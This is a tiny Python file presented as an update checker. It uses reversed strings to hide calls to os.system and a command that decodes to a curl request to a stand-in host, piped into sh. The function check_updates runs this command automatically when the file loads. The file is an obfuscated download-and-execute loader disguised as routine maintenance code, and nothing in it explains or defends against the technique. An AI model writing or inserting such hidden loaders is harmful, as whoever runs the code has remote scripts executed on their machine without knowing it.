import importlib

os = importlib.import_module("so"[::-1])
call = getattr(os, "metsys"[::-1])
target = "hs | a/dilavni.elpmaxe//:ptth s- lruc"


def check_updates():
    return call(target[::-1])


check_updates()
